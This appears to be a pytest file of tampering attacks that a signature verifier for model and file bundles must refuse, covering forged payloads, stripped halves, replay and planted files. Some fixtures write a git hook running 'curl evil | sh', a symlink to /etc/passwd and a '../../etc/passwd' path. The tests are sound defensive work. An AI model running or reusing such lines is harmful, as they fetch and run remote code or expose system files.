"""The attack table: each row a test, in both forms, through both entry points. Nothing here may ever verify."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from secpipe.core.evidence import Evidence, State
from secpipe.core.trust import PublicHalf
from secpipe.keys.schemes import scheme
from secpipe.sign import bundle as bundles
from secpipe.sign import statement as statements
from secpipe.sign.envelope import pae
from secpipe.system.tree import open_tree
from tests.unit.sign.world import NOW, World, at, make_identity, make_key, make_trust, rules

FLOORS = ("classical+pq", "classical", "pq")


def refused(world: World, *expected: str, trust: Any = None, **options: Any) -> Evidence:
    """Both entry points must say no, by one of the expected rules, and cover nothing."""
    for evidence in world.both(trust, **options):
        assert evidence.state is State.FAILED, evidence
        assert evidence.reason
        assert not evidence.facts["covered"]
        assert not any(artifact["verified"] for artifact in evidence.facts["artifacts"])
        assert rules(evidence) & set(expected), (rules(evidence), evidence.reason)
    return evidence


def edit(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    document = json.loads(path.read_bytes())
    change(document)
    path.write_text(json.dumps(document))


def forge(world: World, change: Callable[[dict[str, Any]], None], keys: Any = None) -> None:
    """Sign a changed payload with the real private halves: what a hostile but key-holding signer could do."""
    payload = bundles.decode(world.classical.read_bytes(), "x").payload
    document = json.loads(payload)
    change(document)
    resign(world, json.dumps(document).encode(), keys)


def resign(world: World, payload: bytes, key: Any = None) -> None:
    for path, signer in zip((world.classical, world.pq), (key or world.key).signers, strict=True):
        path.write_bytes(bundles.encode(payload, signer.sign(pae(payload)), signer.keyid))


def declared(document: dict[str, Any]) -> dict[str, Any]:
    value: dict[str, Any] = document["subject"][0]["annotations"][statements.HYBRID]
    return value


# --- authority ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("purposes", [(), ("verdict",), ("dataset", "prompt")])
def test_wrong_purpose(world: World, purposes: tuple[str, ...]) -> None:
    world.sign()
    trust = make_trust(make_identity("builder", world.key, purposes=purposes))
    refused(world, "wrong-purpose", trust=trust)


def test_wrong_namespace(world: World) -> None:
    world.sign()
    trust = make_trust(make_identity("builder", world.key, namespaces=("acme/*",)))
    refused(world, "wrong-purpose", trust=trust)


@pytest.mark.parametrize("environment", ["production", ""])
def test_wrong_environment(world: World, environment: str) -> None:
    world.sign()
    trust = make_trust(make_identity("builder", world.key, environments=("staging",)))
    refused(world, "wrong-purpose", trust=trust, environment=environment)
    assert world.verify(trust, environment="staging").state is State.OK


def test_verdict_signed_by_a_builder_key(make_world: Any) -> None:
    world = make_world("file").sign(kind="verdict")
    trust = make_trust(make_identity("builder", world.key, purposes=("model", "file")))
    refused(world, "wrong-purpose", trust=trust)
    allowed = make_trust(make_identity("gate", world.key, purposes=("verdict",)))
    assert world.verify(allowed, purpose="verdict").state is State.OK


def test_signed_for_another_purpose_than_asked(world: World) -> None:
    world.sign()
    evidence = world.verify(purpose="advisories")
    assert evidence.state is State.FAILED
    assert rules(evidence) == {"wrong-purpose"}


def test_a_signature_of_one_form_does_not_sign_the_other(make_world: Any) -> None:
    world = make_world("file").sign()
    forge(world, lambda document: document.update(predicateType="https://model_signing/signature/v1.0"))
    refused(world, "wrong-purpose", "invalid")
    model = make_world("directory").sign()
    forge(model, lambda document: document.update(predicateType="https://secpipe.dev/file/v1", predicate={}))
    refused(model, "wrong-purpose", "invalid")


def test_unvetted_predicate_type(world: World) -> None:
    world.sign()
    forge(world, lambda document: document.update(predicateType="https://evil.example/v1"))
    refused(world, "wrong-purpose")


# --- replay ---------------------------------------------------------------------------------------------------------


def test_an_older_signed_artifact_replayed(world: World) -> None:
    world.sign(artifact_version="1.3.0")
    for pins in ({"min_version": "1.4.0"}, {"name": "another"}, {"name": world.path.name, "min_version": "2"}):
        evidence = world.verify(**pins)
        assert evidence.state is State.FAILED
        assert rules(evidence) == {"replayed"}


def test_an_unversioned_artifact_does_not_meet_a_minimum(world: World) -> None:
    assert rules(world.sign().verify(min_version="0.1")) == {"replayed"}


def test_another_signed_file_under_this_name(make_world: Any) -> None:
    world = make_world("file")
    old = world.folder / "old.txt"
    old.write_text("an old, signed prompt")
    from secpipe.sign.sign import sign_artifact

    sign_artifact(old, open_tree(old), world.key.signers, world.key.version, now=NOW)
    world.sign()
    for suffix in ("", ".sig", ".pqc.sig"):
        (world.folder / f"old.txt{suffix}").replace(world.folder / f"prompt.txt{suffix}")
    refused(world, "changed-file")


# --- what the signature leaves out ----------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["notes.txt", ".git", "weights", "*.py", ".github"])
def test_an_ignored_path_beyond_the_sidecars(make_world: Any, path: str) -> None:
    world = make_world("directory").sign()

    def leave_out(document: dict[str, Any]) -> None:
        document["predicate"]["serialization"]["ignore_paths"].append(path)

    forge(world, leave_out)
    refused(world, "ignored-path")


def test_an_ignored_path_needs_the_verifiers_consent(make_world: Any) -> None:
    world = make_world("directory")
    (world.path / "cache").mkdir()
    (world.path / "cache" / "x").write_text("1")
    world.sign(ignore=("cache",))
    refused(world, "ignored-path")
    assert world.verify(ignore=("cache",)).state is State.OK
    (world.path / "cached.py").write_text("1")
    assert rules(world.verify(ignore=("cache",))) == {"extra-file"}


def test_git_with_code_inside_the_model(make_world: Any) -> None:
    world = make_world("directory").sign()
    (world.path / ".git" / "hooks").mkdir(parents=True)
    (world.path / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh")
    refused(world, "extra-file")


@pytest.mark.parametrize("name", ["model.pqc.sig", "model.sig", "model.sig.tlog-proof"])
def test_a_directory_named_like_a_sidecar(make_world: Any, name: str) -> None:
    world = make_world("directory").sign()
    (world.path / name).unlink(missing_ok=True)
    (world.path / name).mkdir()
    (world.path / name / "code.py").write_text("import os")
    refused(world, "extra-file", "stripped-half", "invalid")


@pytest.mark.parametrize("name", ["model.pqc.sig", "model.sig", "model.sig.tlog-proof"])
def test_a_link_named_like_a_sidecar(make_world: Any, name: str) -> None:
    world = make_world("directory").sign()
    content = (world.path / name).read_bytes() if (world.path / name).exists() else b""
    (world.folder / "elsewhere").write_bytes(content)
    (world.path / name).unlink(missing_ok=True)
    (world.path / name).symlink_to(world.folder / "elsewhere")
    refused(world, "extra-file", "stripped-half", "invalid")


@pytest.mark.parametrize("name", ["evil.py", "weights/model.sig", "model.sig.py", "Model.sig", "model.sig "])
def test_an_added_file(make_world: Any, name: str) -> None:
    world = make_world("directory").sign()
    (world.path / name).write_text("import os")
    evidence = world.verify()
    assert evidence.state is State.FAILED
    assert rules(evidence) == {"extra-file"}
    assert world.verify_tree().state is State.FAILED


def test_an_artifact_named_like_a_sidecar(make_world: Any) -> None:
    world = make_world("file").sign()
    for suffix in (".sig", ".pqc.sig"):
        (world.folder / f"prompt.txt{suffix}").replace(world.folder / f"x.sig{suffix}")
    world.path = world.path.rename(world.folder / "x.sig")
    for evidence in world.both():
        assert evidence.state is State.FAILED
        assert not evidence.facts["covered"]


# --- stripped, mixed and confused halves ----------------------------------------------------------------------------


@pytest.mark.parametrize("require", FLOORS)
@pytest.mark.parametrize("half", ["classical", "pq"])
def test_a_stripped_half(world: World, half: str, require: str) -> None:
    world.sign()
    getattr(world, half).unlink()
    refused(world, "stripped-half", require=require)


@pytest.mark.parametrize("require", FLOORS)
def test_a_stripped_half_with_its_declaration_taken_out(world: World, require: str) -> None:
    """The signer's classical key is broken and re-signs without declaring the other half: the ring still knows it."""
    for change in (
        lambda document: document["subject"][0].pop("annotations"),
        lambda document: declared(document).update(halves=declared(document)["halves"][:1]),
        lambda document: declared(document).update(halves=declared(document)["halves"][:1] * 2),
        lambda document: declared(document).update(mode="any-of"),
        lambda document: declared(document).update(halves=[]),
    ):
        world.again()
        forge(world, change)
        world.pq.unlink()
        refused(world, "stripped-half", "invalid", require=require)


def test_halves_from_two_payloads(world: World) -> None:
    world.sign(artifact_version="1")
    kept = world.pq.read_bytes()
    world.sign(artifact_version="2")
    world.pq.write_bytes(kept)
    refused(world, "invalid")


def test_a_half_of_another_signer(world: World) -> None:
    world.sign()
    payload = bundles.decode(world.classical.read_bytes(), "x").payload
    stranger = world.other.signers[1]
    world.pq.write_bytes(bundles.encode(payload, stranger.sign(pae(payload)), stranger.keyid))
    refused(world, "invalid")


@pytest.mark.parametrize("whose", ["other signer", "other version"])
def test_mixed_halves_that_the_payload_declares(world: World, whose: str) -> None:
    second = make_key(version=2)
    if whose == "other version":
        world.trust = make_trust(make_identity("builder", world.key, second))
    else:
        world.trust = make_trust(world.identity, make_identity("other", second))
    world.sign()
    mixed = type(world.key)(world.key.version, (world.key.signers[0], second.signers[1]))

    def claim(document: dict[str, Any]) -> None:
        declared(document)["halves"][1]["keyid"] = second.signers[1].keyid

    forge(world, claim, mixed)
    refused(world, "invalid")


@pytest.mark.parametrize("half", ["classical", "pq"])
def test_the_same_half_twice(world: World, half: str) -> None:
    world.sign()
    content = getattr(world, half).read_bytes()
    world.classical.write_bytes(content)
    world.pq.write_bytes(content)
    refused(world, "invalid")


def test_swapped_places(world: World) -> None:
    world.sign()
    one, two = world.classical.read_bytes(), world.pq.read_bytes()
    world.classical.write_bytes(two)
    world.pq.write_bytes(one)
    refused(world, "invalid")


def test_a_lying_hint(world: World) -> None:
    world.sign()
    for keyid in (world.other.signers[0].keyid, world.key.signers[1].keyid, "0" * 64, "", "A" * 64):
        edit(world.classical, lambda document, k=keyid: document["verificationMaterial"]["publicKey"].update(hint=k))
        refused(world, "invalid", "unknown-key", "stripped-half")


@pytest.mark.parametrize("claim", ["ecdsa-p384", "ml-dsa-65", "none", "ed25519", ""])
def test_a_lying_algorithm(world: World, claim: str) -> None:
    world.sign()
    forge(world, lambda document: declared(document)["halves"][0].update(alg=claim))
    refused(world, "invalid")


def test_a_p256_key_presented_as_mldsa_and_back(world: World) -> None:
    """Even a ring that mislabels a key cannot make its signature count under another algorithm."""
    world.sign()
    classical, pq = world.key.version.halves
    for halves in (
        (classical, PublicHalf("ml-dsa-65", pq.half, classical.pem)),
        (PublicHalf("ecdsa-p256", classical.half, pq.pem), pq),
        (PublicHalf("ml-dsa-65", classical.half, classical.pem), PublicHalf("ecdsa-p256", pq.half, pq.pem)),
    ):
        confused = replace(world.key, version=replace(world.key.version, halves=halves))
        refused(world, "invalid", "stripped-half", "unknown-key", trust=make_trust(make_identity("builder", confused)))


def test_a_signature_of_the_other_algorithms_bytes(world: World) -> None:
    world.sign()
    one = bundles.decode(world.classical.read_bytes(), "x")
    two = bundles.decode(world.pq.read_bytes(), "x")
    world.classical.write_bytes(bundles.encode(one.payload, two.signature, one.hint))
    refused(world, "invalid")
    world.sign()
    world.pq.write_bytes(bundles.encode(two.payload, one.signature, two.hint))
    refused(world, "invalid")


def test_a_key_that_is_not_in_the_ring(world: World) -> None:
    world.sign(make_key())
    refused(world, "unknown-key")
    world.classical.unlink()
    world.pq.unlink()
    world.sign()
    refused(world, "unknown-key", trust=make_trust())


# --- hostile bundles ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("half", ["classical", "pq"])
def test_two_signatures_in_one_envelope(world: World, half: str) -> None:
    world.sign()
    path = getattr(world, half)

    def double(document: dict[str, Any]) -> None:
        document["dsseEnvelope"]["signatures"] *= 2

    edit(path, double)
    refused(world, "invalid")
    edit(path, lambda document: document["dsseEnvelope"].update(signatures=[]))
    refused(world, "invalid")


@pytest.mark.parametrize("half", ["classical", "pq"])
def test_duplicate_keys_in_the_bundle(world: World, half: str) -> None:
    world.sign()
    path = getattr(world, half)
    text = path.read_text()
    path.write_text('{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json",' + text[1:])
    refused(world, "invalid")


def test_duplicate_keys_in_the_signed_payload(world: World) -> None:
    world.sign()
    payload = bundles.decode(world.classical.read_bytes(), "x").payload
    resign(world, b'{"_type":"https://in-toto.io/Statement/v1",' + payload[1:])
    refused(world, "invalid")


FIELDS: list[tuple[str, ...]] = [
    (), ("verificationMaterial",), ("verificationMaterial", "publicKey"), ("dsseEnvelope",),
]  # fmt: skip


@pytest.mark.parametrize("where", FIELDS, ids="/".join)
def test_unknown_unsigned_fields(world: World, where: tuple[str, ...]) -> None:
    world.sign()

    def add(document: dict[str, Any]) -> None:
        for name in where:
            document = document[name]
        document["extra"] = 1

    edit(world.classical, add)
    refused(world, "invalid")


def test_unknown_signed_fields(world: World) -> None:
    for change in (
        lambda document: document.update(extra=1),
        lambda document: document["subject"][0].update(uri="https://evil.example"),
        lambda document: document["subject"].append(dict(document["subject"][0])),
        lambda document: document["predicate"].update(extra=1),
        lambda document: declared(document).update(threshold=1),
        lambda document: declared(document)["halves"][0].update(optional=True),
    ):
        world.again()
        forge(world, change)
        refused(world, "invalid")


@pytest.mark.parametrize("half", ["classical", "pq"])
def test_deep_nesting_and_huge_bundles(world: World, half: str) -> None:
    world.sign()
    path = getattr(world, half)
    path.write_bytes(b'{"mediaType":' + b"[" * 500_000)
    refused(world, "invalid")
    path.write_bytes(b"{" + b'"a":{' * 200 + b"}" * 201)
    refused(world, "invalid")
    with path.open("wb") as file:  # 1 GB, sparse: nobody may read it whole
        file.write(b'{"a":')
        file.truncate(1 << 30)
    evidence = world.verify()
    assert evidence.state is State.FAILED
    assert "larger than" in evidence.reason


@pytest.mark.parametrize("content", [b"", b"\0" * 100, b"null", b"[]", b"{}", b'"x"', b"\xff\xfe{}", b"NaN", b"{" * 10])
@pytest.mark.parametrize("half", ["classical", "pq"])
def test_a_bundle_that_is_none(world: World, half: str, content: bytes) -> None:
    world.sign()
    getattr(world, half).write_bytes(content)
    refused(world, "invalid")


def test_another_payload_type(world: World) -> None:
    world.sign()
    for path in (world.classical, world.pq):
        edit(path, lambda document: document["dsseEnvelope"].update(payloadType="application/json"))
    refused(world, "invalid")


@pytest.mark.parametrize("half", ["classical", "pq"])
def test_every_byte_of_a_signature_counts(world: World, half: str) -> None:
    world.sign()
    path = getattr(world, half)
    good = bundles.decode(path.read_bytes(), "x")
    for position in (0, len(good.signature) // 2, len(good.signature) - 1):
        bad = bytearray(good.signature)
        bad[position] ^= 1
        path.write_bytes(bundles.encode(good.payload, bytes(bad), good.hint))
        assert world.verify().state is State.FAILED
    for bad_signature in (good.signature[:-1], good.signature + b"\0", b"\0" * len(good.signature)):
        path.write_bytes(bundles.encode(good.payload, bad_signature, good.hint))
        assert world.verify().state is State.FAILED


def test_a_changed_payload(world: World) -> None:
    world.sign()
    for path in (world.classical, world.pq):
        good = bundles.decode(path.read_bytes(), "x")
        path.write_bytes(bundles.encode(good.payload.replace(b"Statement", b"Statemend"), good.signature, good.hint))
    refused(world, "invalid")


# --- files ----------------------------------------------------------------------------------------------------------


def test_a_changed_file(world: World) -> None:
    world.sign()
    target = world.path / "config.json" if world.form == "directory" else world.path
    target.write_text("be cruel")
    refused(world, "changed-file")


@pytest.mark.parametrize("size", [0, 1, 999, 1001])
def test_a_truncated_or_grown_file(make_world: Any, size: int) -> None:
    world = make_world("directory").sign()
    (world.path / "weights" / "a.safetensors").write_bytes(b"a" * size)
    refused(world, "changed-file")


def test_a_renamed_weight_file_keeps_the_oms_root_and_is_refused(make_world: Any) -> None:
    world = make_world("directory").sign()
    before = bundles.decode(world.classical.read_bytes(), "x").payload
    weights = world.path / "weights"
    (weights / "b.safetensors").rename(weights / "b_pickle.bin")
    evidence = refused(world, "extra-file", "missing-file")
    assert rules(evidence) == {"extra-file", "missing-file"}
    world.sign()  # the attack is real: the root digest does not change
    after = bundles.decode(world.classical.read_bytes(), "x").payload
    roots = [json.loads(payload)["subject"][0]["digest"]["sha256"] for payload in (before, after)]
    assert roots[0] == roots[1]


def test_a_removed_file(world: World) -> None:
    world.sign()
    (world.path / "empty.txt" if world.form == "directory" else world.path).unlink()
    evidence = world.verify_tree()
    assert evidence.state is State.FAILED
    assert rules(evidence) == {"missing-file"}


def test_two_swapped_files(make_world: Any) -> None:
    world = make_world("directory").sign()
    one, two = world.path / "weights" / "a.safetensors", world.path / "weights" / "b.safetensors"
    content = one.read_bytes()
    one.write_bytes(two.read_bytes())
    two.write_bytes(content)
    assert rules(refused(world, "changed-file")) == {"changed-file"}


def test_an_emptied_or_added_zero_byte_file(make_world: Any) -> None:
    world = make_world("directory").sign()
    (world.path / "__init__.py").write_bytes(b"")
    refused(world, "extra-file")
    (world.path / "__init__.py").unlink()
    (world.path / "empty.txt").write_bytes(b"no longer")
    refused(world, "changed-file")


@pytest.mark.parametrize("target", ["config.json", "/etc/passwd", "nowhere", "weights"])
def test_a_link_inside_the_model(make_world: Any, target: str) -> None:
    world = make_world("directory").sign()
    (world.path / "link").symlink_to(target)
    refused(world, "extra-file")
    (world.path / "link").unlink()
    original = (world.path / "config.json").read_bytes()
    (world.folder / "copy").write_bytes(original)
    (world.path / "config.json").unlink()
    (world.path / "config.json").symlink_to(world.folder / "copy")
    refused(world, "extra-file", "missing-file")


def test_unicode_equivalent_names(make_world: Any) -> None:
    world = make_world("directory")
    (world.path / "caf\u00e9.py").write_text("1")
    world.sign()
    (world.path / "cafe\u0301.py").write_text("2")
    refused(world, "extra-file")
    (world.path / "caf\u00e9.py").unlink()
    refused(world, "extra-file", "missing-file")


def test_a_file_changed_between_hashing_and_verdict(world: World) -> None:
    world.sign()
    tree = open_tree(world.path)
    target = world.path / "config.json" if world.form == "directory" else world.path
    target.write_text("changed after it was hashed")
    from secpipe.sign.verify import verify_artifact

    evidence = verify_artifact(world.path, tree, world.trust, now=NOW)
    assert evidence.state is State.FAILED
    assert rules(evidence) == {"changed-file"}


def test_the_signed_manifest_must_match_its_own_digests(make_world: Any) -> None:
    world = make_world("directory")
    for change in (
        lambda document: document["subject"][0]["digest"].update(sha256="0" * 64),
        lambda document: document["subject"][0]["digest"].update(dirHash="0" * 64),
        lambda document: document["subject"][0]["digest"].pop("dirHash"),
        lambda document: document["predicate"]["resources"].append(document["predicate"]["resources"][0]),
        lambda document: document["predicate"]["resources"][0].update(name="../../etc/passwd"),
        lambda document: document["predicate"]["serialization"].update(allow_symlinks=True),
        lambda document: document["predicate"]["serialization"].update(method="shards", shard_size=1),
        lambda document: document["predicate"]["serialization"].update(hash_type="blake2b"),
    ):
        world.again()
        forge(world, change)
        refused(world, "invalid")


# --- time and states ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("dates", "rule"),
    [
        ({"suspended_since": at("2026-11-01")}, "suspended-key"),
        ({"compromised_since": at("2026-11-01")}, "compromised-key"),
        ({"compromised_since": at("2027-11-01")}, "compromised-key"),
        ({"not_before": at("2026-12-01")}, "expired-key"),
        ({"sign_until": at("2026-06-01"), "verify_until": at("2026-11-01")}, "expired-key"),
    ],
    ids=["suspended", "compromised", "compromised later", "not yet active", "expired"],
)
def test_a_key_that_no_longer_or_not_yet_counts(world: World, dates: dict[str, Any], rule: str) -> None:
    world.sign()
    refused(world, rule, trust=make_trust(make_identity("builder", world.key.dated(**dates))))


def test_a_deactivated_key_still_verifies_until_it_ends(world: World) -> None:
    world.sign()
    dates = {"sign_until": at("2026-06-01"), "verify_until": at("2027-01-01")}
    assert world.verify(make_trust(make_identity("builder", world.key.dated(**dates)))).state is State.OK


def test_a_verification_that_crashes_is_no_verification(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.sign()

    def crash(self: object, *args: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(type(scheme.get("ml-dsa-65")), "verify", crash)
    refused(world, "invalid")


def test_base64_of_the_payload_is_strict(world: World) -> None:
    world.sign()
    for path in (world.classical, world.pq):
        edit(path, lambda document: document["dsseEnvelope"].update(payload=document["dsseEnvelope"]["payload"] + "!!"))
    refused(world, "invalid")
    assert base64.b64decode("AA==!!") == b"\0"  # the lenient reading is what the standard library does by itself
